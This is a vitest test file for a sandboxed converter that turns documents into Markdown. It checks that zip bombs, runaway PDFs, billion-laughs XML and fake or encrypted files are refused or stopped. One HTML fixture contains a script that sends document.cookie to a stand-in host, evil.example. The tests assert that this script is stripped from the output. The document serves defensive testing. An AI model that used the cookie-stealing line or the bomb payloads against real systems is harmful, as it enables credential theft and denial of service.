import crypto from "node:crypto";
import fs from "node:fs";
import { needs } from "@thinktank/testing";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { billionLaughs, converterFixture, makeDocx, makeEncryptedPdf, makeHeavyPdf, makeNestedFormsPdf, makePdf, makePptx, makeXlsx, makeZipBombDocx, type ConverterFixture } from "./test-support/document-fixtures.js";
import type { ConversionResult } from "./document-converter.js";

/** A reason fit for a user: short, and naming no host path. */
function expectCleanReason(result: ConversionResult, fixture: ConverterFixture): string {
  expect(result.ok).toBe(false);
  const reason = result.ok ? "" : result.reason;
  expect(reason.length).toBeLessThan(300);
  expect(reason).not.toContain(fixture.root);
  expect(reason).not.toMatch(/\/tmp\/|\/root\/|node_modules|main\.mjs/);
  return reason;
}

// Hostile and oversized documents, through real workers in the sandbox, on both backends.
for (const backend of ["deno", "bubblewrap"] as const) {
  describe(`hostile documents on the ${backend} backend`, { timeout: 180_000, ...(backend === "bubblewrap" ? needs("bubblewrap") : {}) }, () => {
    let fixture: ConverterFixture;
    let slow: ConverterFixture;
    let small: ConverterFixture;
    beforeAll(() => {
      fixture = converterFixture(backend, { max_pages: 2, max_cells: 50 });
      // A short wall clock, to see a document that keeps pdfjs busy stopped.
      slow = converterFixture(backend, { timeout_seconds: 2 });
      // The least memory JavaScript runs in on bubblewrap (96 MiB is its floor), and little output.
      small = converterFixture(backend, { memory_mb: 128, timeout_seconds: 60, max_output_mb: 0.01 });
    });
    afterAll(async () => {
      await Promise.all([fixture?.cleanup(), slow?.cleanup(), small?.cleanup()]);
    });

    const convert = async (on: ConverterFixture, name: string, data: string | Uint8Array) => {
      const input = on.file(name, data);
      const output = `${input}.md`;
      const result = await on.converter.convert(input, output);
      return { result, output, markdown: result.ok ? fs.readFileSync(output, "utf8") : undefined };
    };

    it("a zip bomb inside a DOCX is refused from its central directory, nothing inflated, no worker started", async () => {
      const bomb = makeZipBombDocx(64);
      expect(bomb.length).toBeLessThan(200_000);
      const before = process.memoryUsage().rss;
      const runs = fixture.runs();
      const { result, output } = await convert(fixture, "bomb.docx", bomb);
      expect(fixture.runs()).toBe(runs);
      const reason = expectCleanReason(result, fixture);
      expect(reason).toMatch(/^the DOCX package was refused before unpacking: .*more than 200 times/);
      // Refused on the host from the headers alone: no worker ran, and the host's memory did not
      // grow by the 64 MiB the entry inflates to.
      expect(process.memoryUsage().rss - before).toBeLessThan(32 * 1024 * 1024);
      expect(fs.existsSync(output)).toBe(false);
    });

    it("a zip bomb whose headers lie about its size is stopped one byte past the size it declares", async () => {
      const { result } = await convert(fixture, "liar.docx", makeZipBombDocx(64, 4096));
      expect(expectCleanReason(result, fixture)).toMatch(/inflates past its declared size \(a zip bomb\)/);
    });

    it("a PDF that would keep pdfjs busy for days is killed at the timeout, and says so", async () => {
      // About 10 KB: 40 levels of form XObjects, each drawing the next twice (2^40 leaves to walk).
      const pdf = await makeNestedFormsPdf(40);
      expect(pdf.length).toBeLessThan(16_384);
      const started = performance.now();
      const { result } = await convert(slow, "nested.pdf", pdf);
      expect(expectCleanReason(result, slow)).toBe("the conversion took longer than 2 s and was stopped");
      expect(performance.now() - started).toBeLessThan(15_000);
    });

    it("a PDF that is slow for a plain reason (200,000 text operators, 33 KB) is killed at the timeout too", async () => {
      const { result } = await convert(slow, "busy.pdf", await makeHeavyPdf(200_000));
      expect(expectCleanReason(result, slow)).toBe("the conversion took longer than 2 s and was stopped");
    });

    it("a worker past its memory cap is stopped, and the reason says memory", async () => {
      // 25 MB of text in one paragraph: mammoth, then turndown, need several times that.
      const text = crypto.randomBytes(18 * 1024 * 1024).toString("base64");
      const { result } = await convert(small, "huge.docx", makeDocx("Huge", [text]));
      expect(expectCleanReason(result, small)).toBe("the conversion needed more than 128 MiB of memory and was stopped");
    });

    it("a conversion cancelled while its worker runs stops it, and says so", async () => {
      const input = fixture.file("cancelled.pdf", await makeHeavyPdf(200_000));
      const controller = new AbortController();
      const runs = fixture.runs();
      const converting = fixture.converter.convert(input, `${input}.md`, controller.signal);
      await vi.waitFor(() => expect(fixture.runs()).toBe(runs + 1), { timeout: 30_000, interval: 20 });
      const aborted = performance.now();
      controller.abort();
      const result = await converting;
      expect(expectCleanReason(result, fixture)).toBe("the conversion was cancelled");
      // Well before the ten seconds pdfjs would need (and the 60 s timeout).
      expect(performance.now() - aborted).toBeLessThan(5_000);
      expect(fs.existsSync(`${input}.md`)).toBe(false);
    });

    it("an XLSX with more cells than max_cells stops there and says so", async () => {
      const rows = Array.from({ length: 30 }, (_row, index) => [`r${index}`, index, index * 2, "x", "y"]);
      const { result, markdown } = await convert(fixture, "big.xlsx", await makeXlsx({ Data: rows }));
      expect(result).toMatchObject({ ok: true, truncated: true });
      expect(markdown).toContain("| r9 | 9 | 18 | x | y |");
      expect(markdown).not.toContain("| r10 |");
      expect(markdown!.split("\n")[0]).toContain("truncated: stopped after 50 cells");
      expect(markdown).toContain('> [Truncated: stopped after 50 cells (in sheet "Data"); the workbook has more.]');
    });

    it("a PDF with more pages than max_pages stops there and says so", async () => {
      const { result, markdown } = await convert(fixture, "long.pdf", await makePdf(["one", "two", "three", "four", "five"]));
      expect(result).toMatchObject({ ok: true, truncated: true });
      expect(markdown).toContain("## Page 2\n\ntwo");
      expect(markdown).not.toContain("## Page 3");
      expect(markdown).toContain("stopped after 2 pages of 5");
    });

    it("output stops at max_output_mb, cut cleanly, marked", async () => {
      const csv = ["id,text", ...Array.from({ length: 2000 }, (_row, index) => `${index},row number ${index}`)].join("\n");
      const { result, markdown } = await convert(small, "rows.csv", csv);
      expect(result).toMatchObject({ ok: true, truncated: true });
      expect(result.ok && result.bytes).toBeLessThanOrEqual(0.01 * 1024 * 1024);
      expect(markdown).toContain("stopped at the output limit of 10 KiB");
    });

    it("HTML scripts, event handlers and javascript: links never reach the Markdown", async () => {
      const html = `<body><p onclick="steal()">Hello</p><script>fetch("https://evil.example/"+document.cookie)</script><a href="javascript:alert(1)">click</a><noscript>enable js</noscript></body>`;
      const { result, markdown } = await convert(fixture, "evil.html", html);
      expect(result).toMatchObject({ ok: true });
      expect(markdown).toContain("Hello");
      expect(markdown).toContain("click");
      for (const text of ["steal", "evil.example", "cookie", "javascript:", "enable js"]) expect(markdown).not.toContain(text);
    });

    it("entity expansion (billion laughs) gets nowhere: a PPTX slide with a DOCTYPE is refused, a DOCX's entity is never expanded (its parser knows no DTD entities)", async () => {
      const slide = `${billionLaughs("p:sld")}<p:sld xmlns:p="p" xmlns:a="a"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>&lol9;</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`;
      const { result: pptx } = await convert(fixture, "laughs.pptx", makePptx([["x"]], [slide]));
      expect(expectCleanReason(pptx, fixture)).toBe("a part of the presentation declares a DOCTYPE, which OOXML never does");
      const document = `${billionLaughs("w:document")}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>before &lol9; after</w:t></w:r></w:p></w:body></w:document>`;
      const { result: docx } = await convert(fixture, "laughs.docx", makeDocx("", [], document));
      expect(expectCleanReason(docx, fixture)).toBe("the file is not a readable Word document (DOCX)");
    });

    it("a file that claims to be a PDF but is not one is refused with the reason", async () => {
      const { result } = await convert(fixture, "fake.pdf", "I am plain text, not a PDF.\n");
      expect(expectCleanReason(result, fixture)).toBe("the file is not a PDF (it has no %PDF header)");
    });

    it("an encrypted PDF is refused: it needs a password", async () => {
      const { result } = await convert(fixture, "locked.pdf", await makeEncryptedPdf());
      expect(expectCleanReason(result, fixture)).toBe("the PDF is encrypted (it needs a password)");
    });

    it("a damaged PDF and a DOCX that is not a ZIP are refused with reasons", async () => {
      const pdf = Buffer.from(await makePdf(["x"]));
      const { result: damaged } = await convert(fixture, "damaged.pdf", Buffer.concat([pdf.subarray(0, 40), Buffer.alloc(200, 0x41)]));
      expectCleanReason(damaged, fixture);
      const { result: notZip } = await convert(fixture, "fake.docx", "not a zip");
      expect(expectCleanReason(notZip, fixture)).toBe("the file is not a DOCX document (not a ZIP package)");
    });
  });
}

describe("a backend that isolates nothing", () => {
  it("converts no document, and says why", async () => {
    const local = converterFixture("local");
    try {
      const input = local.file("a.csv", "a,b\n1,2\n");
      const result = await local.converter.convert(input, `${input}.md`);
      expect(result).toEqual({ ok: false, reason: "documents are converted only in an isolating sandbox, and sandbox.backend is local" });
      expect(local.runs()).toBe(0);
    } finally {
      await local.cleanup();
    }
  });
});
